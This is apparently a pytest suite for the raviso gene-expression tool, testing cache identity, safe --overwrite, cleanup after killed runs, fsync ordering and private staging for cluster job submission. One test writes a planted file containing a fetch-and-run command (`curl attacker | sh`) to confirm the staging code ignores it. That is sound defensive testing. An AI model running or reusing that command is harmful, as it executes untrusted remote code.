"""Data safety without Ray: latent cache identity, --overwrite only replaces raviso outputs and
pretrain replaces at the end, scratch files of killed runs and stale temp dirs on shared disks,
fsync before the commit rename, pretrain's failure default, `raviso submit` staging.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from cvdata import write_tiny_run, write_tiny_store

from raviso.core.errors import RavisoError


# -- the latent cache belongs to one run ----------------------------------------------------------
def _fake_cache(store: Path, run_dir: Path, n: int, sample_ids, latent_dim: int, **meta):
    """STORE/latent/<name>/gtex as `raviso encode` lays it out, holding a recognisable Z."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    from raviso.data.store import tensor_array

    d = store / "latent" / run_dir.name / "gtex"
    d.mkdir(parents=True)
    Z = np.full((n, latent_dim), 99.0, np.float32)
    pq.write_table(pa.table({"sample_id": pa.array(list(sample_ids)), "z": tensor_array(Z)}),
                   d / "part-00000.parquet")
    (d / "latent.json").write_text(json.dumps({"run_name": run_dir.name, "rows": n,
                                               "latent_dim": latent_dim, **meta}))
    return d


@pytest.mark.parametrize("whose", ["other folder", "retrained", "no identity"])
def test_latent_cache_of_another_run_is_not_used(tmp_path, whose):
    from raviso.data import Store
    from raviso.data.labelled import Labelled
    from raviso.evaluate.engine.inputs import latent_for
    from raviso.train.runs import weights_sha256

    store, d = write_tiny_store(tmp_path / "store")
    run = write_tiny_run(tmp_path / "a" / "vae", d["genes"])
    meta = {"run": str(run.resolve()), "weights_sha256": weights_sha256(run)}
    if whose == "other folder":       # a run also called `vae`, elsewhere
        meta["run"] = str(write_tiny_run(tmp_path / "b" / "vae", d["genes"], seed=1).resolve())
    elif whose == "retrained":        # same folder, new weights
        meta["weights_sha256"] = "0" * 64
    else:                             # written before identities were recorded
        meta = {}
    _fake_cache(store, run, len(d["sample_id"]), d["sample_id"], 4, **meta)
    st = Store(store)
    data = Labelled.from_store(st)
    _, Z = latent_for(run, st, data)
    assert not np.any(Z == 99.0)                         # encoded afresh, not the stale cache


def test_latent_cache_of_the_same_run_is_used(tmp_path):
    from raviso.data import Store
    from raviso.data.labelled import Labelled
    from raviso.evaluate.engine.inputs import latent_for
    from raviso.train.runs import weights_sha256

    store, d = write_tiny_store(tmp_path / "store")
    run = write_tiny_run(tmp_path / "vae", d["genes"])
    _fake_cache(store, run, len(d["sample_id"]), d["sample_id"], 4,
                run=str(run.resolve()), weights_sha256=weights_sha256(run))
    st = Store(store)
    _, Z = latent_for(run, st, Labelled.from_store(st))
    assert np.all(Z == 99.0)


# -- --overwrite replaces only raviso outputs -----------------------------------------------------
def _not_raviso(tmp_path) -> Path:
    d = tmp_path / "thesis"
    d.mkdir()
    (d / "chapter1.tex").write_text("years of work\n")
    return d


def test_overwrite_refuses_a_directory_that_is_not_a_raviso_output(tmp_path):
    from raviso.core.atomic import atomic_dir
    from raviso.data.store import write_store

    d = _not_raviso(tmp_path)
    with pytest.raises(RavisoError, match="not a raviso output"):
        with atomic_dir(d, overwrite=True) as tmp:
            (tmp / "x").write_text("x")
    with pytest.raises(RavisoError, match="not a raviso output"):
        write_store(d, ["g"], archs4={"X": np.zeros((1, 1)), "sample_id": ["s"]}, overwrite=True)
    assert (d / "chapter1.tex").read_text() == "years of work\n"


def test_overwrite_still_replaces_raviso_outputs_and_empty_dirs(tmp_path):
    from raviso.core.atomic import atomic_dir
    from raviso.data.store import write_store

    store, _ = write_tiny_store(tmp_path / "store")
    write_store(store, ["g"], archs4={"X": np.ones((1, 1)), "sample_id": ["s"]}, overwrite=True)
    assert json.loads((store / "manifest.json").read_text())["genes"] == ["g"]
    (tmp_path / "empty").mkdir()
    with atomic_dir(tmp_path / "empty", overwrite=True) as tmp:
        (tmp / "results.json").write_text("{}")
    assert (tmp_path / "empty" / "results.json").exists()
    # every kind of raviso output directory is recognised: a `raviso tune` TUNE among them
    for marker, doc in (("best.json", {"format": "raviso.tune.best/1"}),
                        ("results.json", {"schema": "raviso.cv.results/1"}),
                        ("model.json", {"format": 1}), ("synth.json", {"preset": {}}),
                        ("run.json", {"model": {}}), ("latent.json", {"latent_dim": 2})):
        out = tmp_path / marker.replace(".", "_")
        out.mkdir()
        (out / marker).write_text(json.dumps(doc))
        (out / "other.bin").write_bytes(b"x")
        with atomic_dir(out, overwrite=True) as tmp:
            (tmp / marker).write_text(json.dumps(doc))
        assert not (out / "other.bin").exists(), marker


@pytest.mark.parametrize("command", ["pretrain", "cv", "fit", "synth", "convert", "demo", "copy"])
def test_every_overwrite_refuses_foreign_directories(tmp_path, command):
    """The CLI, end to end: every command with --overwrite refuses before doing any work."""
    store, d = write_tiny_store(tmp_path / "store")
    run = write_tiny_run(tmp_path / "vae", d["genes"])
    target = _not_raviso(tmp_path)
    if command == "pretrain":                     # pretrain reads the compendium
        from raviso.data.store import write_store

        write_store(store, d["genes"], archs4={"X": d["G"], "sample_id": d["sample_id"]},
                    overwrite=True)
    args = {"pretrain": ["pretrain", str(store), "--out", str(target)],
            "cv": ["cv", str(store), "--variants", "mean", "--out", str(target)],
            "fit": ["fit", str(store), "--pretrained", str(run), "--variant", "mean",
                    "--out", str(target)],
            "synth": ["synth", str(target)],
            "convert": ["convert", str(tmp_path / "nothing-here"), str(target)],
            "demo": ["demo", "--out", str(target)],
            "copy": ["copy", str(store), str(target)]}[command]
    r = subprocess.run([str(Path(sys.executable).parent / "raviso"), *args, "--overwrite"],
                       capture_output=True, text=True, timeout=300)
    assert r.returncode != 0
    assert "not a raviso output" in r.stderr, r.stderr[-1500:]
    assert sorted(p.name for p in target.iterdir()) == ["chapter1.tex"]


# -- scratch of killed runs; stale temp dirs on shared disks --------------------------------------
KILL_IN = r"""
import os, signal, sys
import numpy as np
from pathlib import Path
which, src, dst = sys.argv[1:4]
if which == "gct":
    import raviso.io.gct as f
    f.GCT_MEMORY_BYTES = 0
    real = f.GCT._load
    def load(self):
        real(self)
        os.kill(os.getpid(), signal.SIGKILL)     # the scratch exists and is full
    f.GCT._load = load
    f.GCT(src, tmpdir=dst)
else:
    import raviso.io.importer as imp
    import raviso.io.quant as quant
    imp.IN_MEMORY_BYTES = 0
    real = quant.Matrix.iter_values
    def values(self, names):
        for block in real(self, names):
            yield block
        os.kill(os.getpid(), signal.SIGKILL)     # every value in the scratch buffer
    quant.Matrix.iter_values = values
    imp.import_matrix(src, Path(dst) / "store", units="tpm")
"""


def _gct(path: Path, n_tx: int = 6, n_s: int = 3) -> Path:
    lines = ["#1.2", f"{n_tx}\t{n_s}", "transcript_id\tgene_id\t" +
             "\t".join(f"GTEX-A{i}-0001" for i in range(n_s))]
    for t in range(n_tx):
        lines.append(f"ENST{t:05d}\tENSG{t // 2:05d}\t" + "\t".join(str(t + s) for s in range(n_s)))
    path.write_text("\n".join(lines) + "\n")
    return path


@pytest.mark.parametrize("which", ["gct", "import"])
def test_scratch_of_a_sigkilled_run_does_not_survive(tmp_path, which):
    src = _gct(tmp_path / "tx.gct")
    out = tmp_path / "out"
    out.mkdir()
    r = subprocess.run([sys.executable, "-c", KILL_IN, which, str(src), str(out)],
                       capture_output=True, text=True, timeout=120)
    assert r.returncode == -signal.SIGKILL, r.stderr[-2000:]
    assert sorted(p.name for p in out.iterdir()) == []        # no .gct-*.f32, no .store.scratch-*


def test_stale_temp_cleanup_never_touches_another_hosts_temp_dirs(tmp_path):
    from raviso.core import atomic

    target = tmp_path / "store"
    here, boot = atomic.host_id(), atomic.boot_id()
    dead = _dead_pid()
    names = {
        "other host, any pid": atomic.temp_name(target, host="f" * 8, boot=boot, pid=dead),
        "this host, dead pid": atomic.temp_name(target, host=here, boot=boot, pid=dead),
        "this host, before a reboot": atomic.temp_name(target, host=here, boot="0" * 8,
                                                        pid=os.getpid() + 0),
        "this host, live pid": atomic.temp_name(target, host=here, boot=boot, pid=os.getppid()),
        "legacy name (no host)": f".{target.name}.tmp-{dead}-0123abcd",
    }
    for name in names.values():
        (tmp_path / name).mkdir()
    atomic.remove_stale(target)
    left = {k for k, v in names.items() if (tmp_path / v).exists()}
    assert left == {"other host, any pid", "this host, live pid", "legacy name (no host)"}


def _dead_pid() -> int:
    p = subprocess.Popen([sys.executable, "-c", "pass"])
    p.wait()
    return p.pid


# -- fsync before the commit rename ---------------------------------------------------------------
def test_store_files_and_directories_are_fsynced_before_the_rename(tmp_path, monkeypatch):
    from raviso.data.store import write_store

    events = []
    real_fsync, real_replace = os.fsync, os.replace

    def fsync(fd):
        events.append(("fsync", os.path.realpath(f"/proc/self/fd/{fd}")))
        return real_fsync(fd)

    def replace(a, b, **kw):
        events.append(("replace", os.fspath(a), os.fspath(b)))
        return real_replace(a, b, **kw)

    monkeypatch.setattr(os, "fsync", fsync)
    monkeypatch.setattr(os, "replace", replace)
    X = np.random.default_rng(0).random((50, 4), np.float32)
    store = write_store(tmp_path / "store", list("abcd"), archs4={"X": X, "sample_id":
                                                                  [f"s{i}" for i in range(50)]})
    commit = next(i for i, e in enumerate(events) if e[0] == "replace"
                  and e[2] == str(store))
    tmp = events[commit][1]
    synced = {e[1] for e in events[:commit] if e[0] == "fsync"}
    for f in Path(store).rglob("*"):
        assert str(f).replace(str(store), tmp, 1) in synced, f"{f} not fsynced before the rename"
    assert tmp in synced and f"{tmp}/archs4" in synced           # the directories too
    assert ("fsync", str(tmp_path)) in events[commit:]              # and the parent after it


# -- pretrain retries by default where nodes can be lost ------------------------------------------
def test_pretrain_retries_by_default_on_a_cluster_not_on_a_laptop():
    from raviso.train.config import TrainConfig
    from raviso.train.runspec import default_max_failures

    assert TrainConfig().max_failures is None                      # resolved at run time
    assert default_max_failures(address=None) == 0                  # private local Ray
    assert default_max_failures(address="auto") >= 3                # a cluster: spot nodes go
    assert default_max_failures(address="10.0.0.1:6379") >= 3


# -- `raviso submit` stages in a private directory ------------------------------------------------
def test_submit_never_uses_a_planted_staging_directory(tmp_path, monkeypatch):
    import hashlib
    import stat
    import tempfile

    from raviso.cluster import submit

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    _, cli_path = submit.package_paths()
    data = Path(cli_path).read_bytes()
    planted = tmp_path / f"raviso-submit-{hashlib.sha256(data).hexdigest()[:16]}"
    evil = tmp_path / "evil"
    evil.mkdir()
    (evil / "cli.py").write_text("import os; os.system('curl attacker | sh')\n")
    planted.symlink_to(evil)
    with submit.staged_cli() as d:
        d = Path(d)
        assert d.resolve() != evil.resolve()
        assert (d / "cli.py").read_bytes() == data
        st = os.stat(d)
        assert st.st_uid == os.getuid() and stat.S_IMODE(st.st_mode) == 0o700
        assert not (d / "cli.py").is_symlink()
    assert not d.exists()                           # removed after the job was handed to Ray
    assert (evil / "cli.py").read_text().startswith("import os")


def test_submit_makes_a_world_readable_token_private(tmp_path, capsys):
    """`ray get-auth-token --generate` writes the token with the default umask."""
    import stat

    from raviso.cluster.submit import protect_token

    token = tmp_path / "auth_token"
    token.write_text("secret")
    token.chmod(0o644)
    assert protect_token(token) is True
    assert stat.S_IMODE(token.stat().st_mode) == 0o600
    assert "made it private" in capsys.readouterr().err
    assert protect_token(token) is False                      # already private: nothing said


def test_copy_to_disk_fsyncs_the_data_before_the_commit_marker(tmp_path, monkeypatch):
    """`raviso copy` writes the marker (manifest.json) last; on a local disk the data it marks
    must be durable first, or a power loss leaves a marker over missing parts."""
    from raviso.data.remote import copy_tree

    store, _ = write_tiny_store(tmp_path / "store")
    events, real_fsync = [], os.fsync

    def fsync(fd):
        events.append(("fsync", os.path.realpath(f"/proc/self/fd/{fd}")))
        return real_fsync(fd)

    monkeypatch.setattr(os, "fsync", fsync)
    dst = tmp_path / "copy"
    copy_tree(store, dst, on_file=lambda rel: events.append(("copied", rel)))
    marker = events.index(("copied", "manifest.json"))
    synced = {e[1] for e in events[:marker] if e[0] == "fsync"}
    parts = [p for p in dst.rglob("*.parquet")]
    assert parts and all(str(p) in synced for p in parts)


def test_a_file_output_never_replaces_a_directory(tmp_path):
    from raviso.core.atomic import atomic_file

    (tmp_path / "out.parquet").mkdir()
    (tmp_path / "out.parquet" / "results.json").write_text('{"schema": "raviso"}')
    with pytest.raises(RavisoError, match="is a directory"):
        with atomic_file(tmp_path / "out.parquet", overwrite=True) as tmp:
            tmp.write_text("x")
    assert (tmp_path / "out.parquet" / "results.json").exists()


def test_a_killed_labelled_cache_build_is_cleaned_up(tmp_path):
    """The memory-mapped labelled cache (GBs at GTEx width) is built in a host-tagged temp dir:
    what a SIGKILLed build left is removed by the next build on this host."""
    from raviso.core import atomic
    from raviso.data import Store
    from raviso.data.mapped import cache_key, ensure_cache

    store, _ = write_tiny_store(tmp_path / "store")
    root = tmp_path / "cache"
    root.mkdir()
    final = root / cache_key(Store(store), "float32")
    left = root / atomic.temp_name(final, pid=_dead_pid())
    left.mkdir()
    (left / "isoforms.npy").write_bytes(b"\0" * 4096)
    other_host = root / atomic.temp_name(final, host="f" * 8, pid=_dead_pid())
    other_host.mkdir()
    built = ensure_cache(Store(store), "float32", root=root)
    assert (built / "isoforms.npy").exists()
    assert not left.exists() and other_host.exists()
